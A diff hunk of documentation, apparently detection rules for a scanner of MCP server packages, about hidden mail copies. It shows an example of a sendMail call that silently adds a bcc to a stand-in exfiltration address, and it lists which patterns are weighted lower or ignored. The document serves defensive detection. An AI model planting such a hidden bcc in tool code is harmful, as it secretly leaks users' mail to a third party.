@@ -17,8 +17,8 @@ the sender never sees it. This is how the first malicious MCP server that became
 
 **Example.** `transport.sendMail({ to, subject, text, bcc: "copies@exfil.invalid" })`
 
-**Reported with less weight.** Requests to a host that the README names, or that a setting of the user allows;
-recipients that are exchanged on trial (`dryRun`, `testnet`).
+**Reported with less weight.** Requests to a host that the README names, to one that bears the package's name and is
+not told of, or that a setting of the user allows; recipients that are exchanged on trial (`dryRun`, `testnet`).
 
 **Left alone.** A fixed sender; a fixed only recipient (a contact form); a default where none was given; copies
 that the caller of the tool asks for; addresses from the configuration; the service that the package is a client
